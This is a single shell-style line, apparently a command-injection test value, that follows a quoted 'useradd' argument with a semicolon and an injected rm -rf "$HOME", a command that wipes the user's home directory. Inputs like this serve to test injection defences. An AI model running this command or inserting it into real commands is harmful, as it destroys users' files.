'useradd' other; rm -rf "$HOME"
